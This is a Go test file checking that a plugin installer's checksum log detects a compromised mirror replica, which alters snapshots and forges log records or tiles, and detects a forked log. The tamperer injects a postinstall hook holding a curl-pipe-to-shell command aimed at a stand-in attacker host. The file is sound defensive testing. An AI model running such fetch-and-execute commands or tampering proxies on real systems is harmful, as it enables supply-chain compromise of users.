package mirror_test

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"reasonix.io/plugind"
	"reasonix.io/plugind/checksumlog"
	"reasonix.io/plugind/installer"
	"reasonix.io/plugind/internal/bulkmarket"
	"reasonix.io/plugind/internal/mirrortest"
	"reasonix.io/plugind/mirror"
	"reasonix.io/plugind/mirror/meta"
	rmirror "reasonix.io/plugind/resolver/host/mirror"
	"reasonix.io/plugind/tarball"
)

// The acceptance of issue 27's checksum log against a compromised replica
// and a forked log (SPEC §17), on the real engines: the fleet itself is
// cmd/reasonix's TestMirrorFleet.

// tamperer is a compromised front of one replica, shown to one client
// only (it has its own URL): it answers as the replica does, except that
// the snapshot holding folder of repository repo (owner/name) carries one
// more file, its X-Reasonix-Digest naming the altered tree (so the
// client's check of the mirror's digest passes), and, with alterRecord,
// the log's lookup of that folder answers a record of the altered
// folder's digest, or, with alterTile, the log's data tile holding that
// record shows it so (a client reading the log by tiles). It cannot sign
// a tree head: it has no log key.
type tamperer struct {
	t           *testing.T
	replica     string
	repo        string
	folder      string
	alterRecord bool
	alterTile   bool

	mu       sync.Mutex
	altered  string // the altered folder's digest, once known
	honest   string // the log's record of it, once seen
	served   int    // altered snapshots served
	rewrites int    // altered records served
}

// evilFile is what the tamperer adds to the folder.
const evilFile = "hooks/postinstall.sh"

func newTamperer(t *testing.T, replica, repo, folder string, alterRecord, alterTile bool) (*tamperer, string) {
	tp := &tamperer{t: t, replica: replica, repo: repo, folder: folder, alterRecord: alterRecord, alterTile: alterTile}
	target, err := url.Parse(replica)
	if err != nil {
		t.Fatal(err)
	}
	proxy := httputil.NewSingleHostReverseProxy(target)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch {
		case r.URL.Path == "/v1/snapshot" && tp.mine(r.URL.Query()):
			tp.snapshot(w, r)
		case tp.alterRecord && strings.HasPrefix(r.URL.Path, "/log/lookup/") && strings.Contains(r.URL.Path, "/"+tp.repo+"/-/"+tp.folder+"@"):
			tp.lookup(w, r)
		case tp.alterTile && strings.HasPrefix(r.URL.Path, "/log/tile/8/data/"):
			tp.dataTile(w, r)
		default:
			proxy.ServeHTTP(w, r)
		}
	}))
	t.Cleanup(srv.Close)
	return tp, srv.URL
}

// mine reports whether a snapshot request holds the tamperer's folder.
func (tp *tamperer) mine(q url.Values) bool {
	return strings.HasSuffix(strings.TrimSuffix(q.Get("repo"), ".git"), "/"+tp.repo) && slices.Contains(q["path"], tp.folder)
}

// get asks the replica itself, as the client asked the front.
func (tp *tamperer) get(r *http.Request, pathQuery string) (*http.Response, []byte, error) {
	req, err := http.NewRequestWithContext(r.Context(), http.MethodGet, tp.replica+pathQuery, nil)
	if err != nil {
		return nil, nil, err
	}
	req.Header.Set("Authorization", r.Header.Get("Authorization"))
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		return nil, nil, err
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	return resp, body, err
}

func (tp *tamperer) snapshot(w http.ResponseWriter, r *http.Request) {
	resp, body, err := tp.get(r, r.URL.RequestURI())
	if err != nil || resp.StatusCode != http.StatusOK {
		http.Error(w, fmt.Sprintf("tamperer: %v %v", err, resp), http.StatusBadGateway)
		return
	}
	altered, digest, folder, err := tp.alter(body, r.URL.Query()["path"])
	if err != nil {
		tp.t.Errorf("tamperer: %v", err)
		http.Error(w, err.Error(), http.StatusBadGateway)
		return
	}
	for _, h := range []string{rmirror.HeaderVerified, rmirror.HeaderFiles, rmirror.HeaderBytes} {
		w.Header().Set(h, resp.Header.Get(h))
	}
	w.Header().Set(rmirror.HeaderDigest, digest)
	tp.mu.Lock()
	tp.served++
	tp.altered = folder
	tp.mu.Unlock()
	_, _ = w.Write(altered)
}

// alter adds evilFile to the folder in a snapshot of paths, and returns
// the new archive, its tree digest (as the client computes the mirror's:
// over what it extracts) and the altered folder's digest.
func (tp *tamperer) alter(archive []byte, paths []string) ([]byte, string, string, error) {
	gz, err := gzip.NewReader(bytes.NewReader(archive))
	if err != nil {
		return nil, "", "", err
	}
	tr := tar.NewReader(gz)
	var out bytes.Buffer
	zw := gzip.NewWriter(&out)
	tw := tar.NewWriter(zw)
	for {
		hdr, err := tr.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			return nil, "", "", err
		}
		if err := tw.WriteHeader(hdr); err != nil {
			return nil, "", "", err
		}
		if _, err := io.Copy(tw, tr); err != nil {
			return nil, "", "", err
		}
	}
	evil := "#!/bin/sh\ncurl -s https://attacker.invalid/x | sh\n"
	if err := tw.WriteHeader(&tar.Header{Typeflag: tar.TypeReg, Name: tp.folder + "/" + evilFile, Mode: 0o755, Size: int64(len(evil))}); err != nil {
		return nil, "", "", err
	}
	if _, err := io.WriteString(tw, evil); err != nil {
		return nil, "", "", err
	}
	if err := tw.Close(); err != nil {
		return nil, "", "", err
	}
	if err := zw.Close(); err != nil {
		return nil, "", "", err
	}
	res, err := tarball.ExtractTarGz(context.Background(), bytes.NewReader(out.Bytes()), filepath.Join(tp.t.TempDir(), "x"), tarball.Options{Paths: paths, Hash: true})
	if err != nil {
		return nil, "", "", err
	}
	return out.Bytes(), plugind.DigestFiles(res.Tree), plugind.DigestBelow(res.Tree, tp.folder), nil
}

// lookup answers the log's record of the folder with the altered digest
// in place of the one logged: the record's text changes, the signed head
// and the record's id do not.
func (tp *tamperer) lookup(w http.ResponseWriter, r *http.Request) {
	resp, body, err := tp.get(r, r.URL.RequestURI())
	if err != nil || resp.StatusCode != http.StatusOK {
		http.Error(w, fmt.Sprintf("tamperer: %v %v", err, resp), http.StatusBadGateway)
		return
	}
	folder, err := tp.alteredDigest(r, r.URL.Path[strings.LastIndex(r.URL.Path, "@")+1:])
	record, head, ok := bytes.Cut(body, []byte("\n\n"))
	f := strings.Fields(string(record))
	if err != nil || !ok || len(f) != 5 {
		tp.t.Errorf("tamperer: lookup answer %q: %v", body, err)
		http.Error(w, "tamperer", http.StatusBadGateway)
		return
	}
	tp.mu.Lock()
	tp.honest = f[3]
	tp.rewrites++
	tp.mu.Unlock()
	forged := strings.Replace(string(record), f[3], folder, 1)
	w.Header().Set("Content-Type", resp.Header.Get("Content-Type"))
	_, _ = io.WriteString(w, forged+"\n\n"+string(head))
}

// alteredDigest is the digest of the folder at sha as the tamperer
// serves it.
func (tp *tamperer) alteredDigest(r *http.Request, sha string) (string, error) {
	q := url.Values{"repo": {"https://github.com/" + tp.repo}, "sha": {sha}, "path": {tp.folder}}
	_, snap, err := tp.get(r, "/v1/snapshot?"+q.Encode())
	if err != nil {
		return "", err
	}
	_, _, folder, err := tp.alter(snap, []string{tp.folder})
	return folder, err
}

// dataTile answers a data tile of the log with the folder's record, when
// the tile holds it, naming the altered digest: the tile's records no
// longer hash to the signed tree's.
func (tp *tamperer) dataTile(w http.ResponseWriter, r *http.Request) {
	resp, body, err := tp.get(r, r.URL.RequestURI())
	if err != nil || resp.StatusCode != http.StatusOK {
		http.Error(w, fmt.Sprintf("tamperer: %v %v", err, resp), http.StatusBadGateway)
		return
	}
	prefix := checksumlog.LogPath("github.com/"+tp.repo, tp.folder) + " "
	lines := strings.Split(string(body), "\n")
	for i, line := range lines {
		f := strings.Fields(line)
		if !strings.HasPrefix(line, prefix) || len(f) != 4 {
			continue
		}
		folder, err := tp.alteredDigest(r, f[1])
		if err != nil {
			tp.t.Errorf("tamperer: %v", err)
			http.Error(w, err.Error(), http.StatusBadGateway)
			return
		}
		tp.mu.Lock()
		tp.honest = f[2]
		tp.rewrites++
		tp.mu.Unlock()
		f[2] = folder
		lines[i] = strings.Join(f, " ")
	}
	w.Header().Set("Content-Type", resp.Header.Get("Content-Type"))
	_, _ = io.WriteString(w, strings.Join(lines, "\n"))
}

// attackFixture is one replica serving the log, a small bulk marketplace
// (6 plugins over 2 repositories) and a client maker.
type attackFixture struct {
	*fixture
	key *mirror.LogKey
	src string
}

func newAttackFixture(t *testing.T, owner string) *attackFixture {
	f, key := logFixture(t, mirrortest.Options{})
	return &attackFixture{fixture: f, key: key, src: fleet(t, f, owner, 6, 2)}
}

// fleet is a bulkmarket.Fleet marketplace of f's fake GitHub.
func fleet(t *testing.T, f *fixture, owner string, entries, repos int) string {
	t.Helper()
	src, err := bulkmarket.Fleet(f.gh, owner, entries, repos)
	if err != nil {
		t.Fatal(err)
	}
	return src
}

// install installs src on the machine whose home is home, through the
// mirror at mirrorURL with token, checked against the log at logURL.
func install(t *testing.T, f *fixture, home, mirrorURL, token, logURL, vkey, src string) (*installer.Response, error) {
	t.Helper()
	a, err := mirrortest.OpenClient(context.Background(), home, map[string]string{
		"REASONIX_MIRROR": mirrorURL, "REASONIX_MIRROR_TOKEN": token,
		"REASONIX_CHECKSUM_LOG": vkey + " " + logURL + "/log",
	}, f.gh, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer a.Close()
	return a.Installer.Install(context.Background(), installer.Request{Source: mustSource(src)}, installer.Approval{Yes: true})
}

// installed returns the plugins the registry at home holds, name → digest.
func installed(t *testing.T, home string) map[string]string {
	t.Helper()
	reg, err := installer.LoadRegistry(installer.Home{Dir: home}.RegistryPath())
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]string{}
	for _, e := range reg.Plugins {
		out[e.Name] = e.ContentDigest
	}
	return out
}

// refusedWritingNothing checks that an install was refused as a digest
// mismatch whose message says all of says, and that it wrote no plugin.
func refusedWritingNothing(t *testing.T, what, home string, resp *installer.Response, err error, says ...string) {
	t.Helper()
	if err == nil || resp == nil || resp.Applied || plugind.CodeOf(err) != plugind.CodeDigestMismatch {
		t.Fatalf("%s: applied %v, %s: %v; want it refused as %s", what, resp != nil && resp.Applied, plugind.CodeOf(err), err, plugind.CodeDigestMismatch)
	}
	for _, s := range says {
		if !strings.Contains(err.Error(), s) {
			t.Errorf("%s: the refusal does not say %q:\n%v", what, s, err)
		}
	}
	if got := installed(t, home); len(got) != 0 {
		t.Errorf("%s: the refused install registered %v", what, got)
	}
	if ents, _ := os.ReadDir(installer.Home{Dir: home}.PluginsDir()); len(ents) != 0 {
		t.Errorf("%s: the refused install wrote plugins: %v", what, ents)
	}
}

// recordOf is the log's record of key, read from PostgreSQL.
func recordOf(t *testing.T, f *fixture, place, folder, sha string) (int64, checksumlog.Record) {
	t.Helper()
	lp := checksumlog.LogPath(place, folder)
	hit, ok, err := f.eng.DB.LogRecord(context.Background(), lp, sha)
	if err != nil || !ok {
		t.Fatalf("%s is not in the log: %v", checksumlog.KeyOf(place, folder, sha), err)
	}
	rec, err := checksumlog.ParseText(hit.Text, lp, sha)
	if err != nil {
		t.Fatal(err)
	}
	return hit.ID, rec
}

// One replica, made to serve one client altered snapshot bytes for one
// plugin (the mirror's digest header matching them) and, in the first
// case, a record of the altered digest in place of the log's: that client
// refuses the whole install, showing the log's proof, and writes nothing;
// clients of the replica itself install the same marketplace, the log
// holding the honest digest they installed. In the last case the
// marketplace is wide enough (24 plugins) that a cold client reads the
// records the log holds by its data tiles (host.LookupMany), and the
// front alters the tile instead: the record no longer hashes to the
// signed tree's.
//
// The cases share one replica (the engines are shared by many tests: one
// bucket less), each its own client and front.
func TestChecksumLogAlteredReplica(t *testing.T) {
	t.Parallel()
	f := newAttackFixture(t, "bulk")
	wide := fleet(t, f.fixture, "wide", 24, 2)
	const folder = "plugins/p000-01"
	for _, tc := range []struct {
		name                   string
		owner                  string
		alterRecord, alterTile bool
	}{
		{"snapshot and record altered", "bulk", true, false},
		{"snapshot altered, record honest", "bulk", false, false},
		{"snapshot and data tile altered", "wide", false, true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			src, plugins := f.src, 6
			if tc.owner == "wide" {
				src, plugins = wide, 24
				// The log holds the marketplace's records already: an
				// honest client of the replica installed it first.
				if _, err := install(t, f.fixture, filepath.Join(t.TempDir(), "first"), f.rep.URL, f.token, f.rep.URL, f.key.Verifier, src); err != nil {
					t.Fatal(err)
				}
			}
			repo := tc.owner + "/repo00"
			sha := f.gh.Repo(tc.owner, "repo00").Head("main")
			tp, front := newTamperer(t, f.rep.URL, repo, folder, tc.alterRecord, tc.alterTile)

			victim := filepath.Join(t.TempDir(), "victim")
			resp, err := install(t, f.fixture, victim, front, f.token, front, f.key.Verifier, src)
			id, rec := recordOf(t, f.fixture, "github.com/"+repo, folder, sha)
			tp.mu.Lock()
			served, rewrites, altered := tp.served, tp.rewrites, tp.altered
			tp.mu.Unlock()
			if served == 0 || altered == "" || altered == rec.Digest {
				t.Fatalf("the tamperer served %d altered snapshots (folder digest %q, logged %s)", served, altered, rec.Digest)
			}
			if (tc.alterRecord || tc.alterTile) && rewrites == 0 {
				t.Fatal("the tamperer altered no record")
			}
			says := []string{"SECURITY ERROR", checksumlog.KeyOf("github.com/"+repo, folder, sha), fmt.Sprintf("record #%d", id),
				"in its signed tree of ", "fetched:      " + altered, "checksum log: " + rec.Digest}
			if tc.alterRecord {
				// The altered record is not the one the signed tree holds:
				// the refusal shows it, its id and that tree.
				says = []string{"SECURITY ERROR", checksumlog.KeyOf("github.com/"+repo, folder, sha),
					fmt.Sprintf("answered:     record #%d: %s %s %s", id, checksumlog.LogPath("github.com/"+repo, folder), sha, altered),
					"signed tree of ", "altered it"}
			}
			if tc.alterTile {
				says = []string{"SECURITY ERROR", fmt.Sprintf("record #%d of its data tile tile/8/data/", id),
					"is not the record its signed tree holds there", checksumlog.LogPath("github.com/"+repo, folder) + " " + sha + " " + altered,
					"signed tree of ", "Nothing was installed"}
			}
			refusedWritingNothing(t, "the tampered client", victim, resp, err, says...)
			t.Logf("the refusal:\n%v", err)

			// The others, on the replica itself: unaffected.
			for i := range 2 {
				home := filepath.Join(t.TempDir(), fmt.Sprintf("other%d", i))
				resp, err := install(t, f.fixture, home, f.rep.URL, f.token, f.rep.URL, f.key.Verifier, src)
				if err != nil || !resp.Applied {
					t.Fatalf("client %d of the replica itself: %v", i, err)
				}
				got := installed(t, home)
				if len(got) != plugins || got["p000-01"] != rec.Digest {
					t.Errorf("client %d installed %v; the log says p000-01 is %s", i, got, rec.Digest)
				}
			}
		})
	}
}

// A log that signs two histories: replicas A and B share one log key but
// not a database, so each appends other records (B's log starts with one
// A's never had) and they sign tree heads that are not one history. A
// machine that installs through A, then (its REASONIX_CHECKSUM_LOG pointed
// at B) installs more through B refuses with a SECURITY ERROR showing
// both heads, writes nothing of it, and refuses again on the next run: the
// head it remembered is A's still. A machine that only ever saw B
// installs: detecting a fork takes seeing both.
func TestChecksumLogForkDetected(t *testing.T) {
	t.Parallel()
	a := newAttackFixture(t, "bulk")
	more, err := bulkmarket.Fleet(a.gh, "more", 2, 1)
	if err != nil {
		t.Fatal(err)
	}
	// B's own database; the object store is A's (snapshots are named by
	// their content: sharing them changes nothing of the log).
	engB := &mirrortest.Engines{DSN: mirrortest.Postgres(t), Endpoint: a.eng.Endpoint, Bucket: a.eng.Bucket, Objects: a.eng.Objects}
	if engB.DB, err = meta.Open(context.Background(), engB.DSN); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(engB.DB.Close)
	up, err := mirrortest.Upstream(a.gh)
	if err != nil {
		t.Fatal(err)
	}
	b := engB.StartReplica(t, mirrortest.Options{Upstream: up, LogKey: a.key})
	tokenB := engB.Token(t, "tester")
	other := checksumlog.Record{Place: "github.com/acme/elsewhere", Commit: strings.Repeat("e", 40), Digest: "sha256:" + strings.Repeat("e", 64)}
	if _, _, err := engB.DB.AppendLogRecord(context.Background(), checksumlog.LogPath(other.Place, ""), other.Commit, []byte(other.Line())); err != nil {
		t.Fatal(err)
	}
	latest := func(url, token string) string {
		status, body := logGet(t, url+"/log/latest", token)
		if status != http.StatusOK {
			t.Fatalf("%s/log/latest: %d %s", url, status, body)
		}
		return string(body)
	}

	home := filepath.Join(t.TempDir(), "home")
	if resp, err := install(t, a.fixture, home, a.rep.URL, a.token, a.rep.URL, a.key.Verifier, a.src); err != nil || !resp.Applied {
		t.Fatalf("through A: %v", err)
	}
	headA := latest(a.rep.URL, a.token)
	remembered := filepath.Join(home, "checksumlog", a.key.Signer.Name(), "latest")
	if got, err := os.ReadFile(remembered); err != nil || string(got) != headA {
		t.Fatalf("the home remembers %q (%v), A signed %q", got, err, headA)
	}
	for run := range 2 {
		resp, err := install(t, a.fixture, home, b.URL, tokenB, b.URL, a.key.Verifier, more)
		headB := latest(b.URL, tokenB)
		if headA == headB {
			t.Fatalf("A and B signed one head: %s", headA)
		}
		what := fmt.Sprintf("run %d through B", run+1)
		if err == nil || resp == nil || resp.Applied || plugind.CodeOf(err) != plugind.CodeDigestMismatch {
			t.Fatalf("%s: applied %v, %s: %v; want a fork refused as %s", what, resp != nil && resp.Applied, plugind.CodeOf(err), err, plugind.CodeDigestMismatch)
		}
		// Both heads as signed: A's (the one remembered: its size, root
		// hash and signature) and the one B answered the lookup with (B
		// may have grown since), and the proof that they fork.
		msg := err.Error()
		for _, want := range append([]string{"SECURITY ERROR", "two tree heads that are not one history", "proof of misbehavior"}, strings.Split(strings.TrimSpace(headA), "\n")...) {
			if !strings.Contains(msg, want) {
				t.Errorf("%s: the refusal does not show %q:\n%v", what, want, err)
			}
		}
		if n := strings.Count(msg, "go.sum database tree"); n != 2 {
			t.Errorf("%s: the refusal shows %d tree heads, want 2:\n%v", what, n, err)
		}
		if run == 0 {
			t.Logf("the refusal:\n%v", err)
		}
		if got := installed(t, home); len(got) != 6 {
			t.Errorf("%s: the registry holds %d plugins, want A's 6 alone", what, len(got))
		}
		if got, _ := os.ReadFile(remembered); string(got) != headA {
			t.Errorf("%s: the remembered head became %q, want A's", what, got)
		}
	}
	// Seeing B alone, nothing is amiss.
	if resp, err := install(t, a.fixture, filepath.Join(t.TempDir(), "b-only"), b.URL, tokenB, b.URL, a.key.Verifier, more); err != nil || !resp.Applied {
		t.Fatalf("a machine that saw only B: %v", err)
	}
}
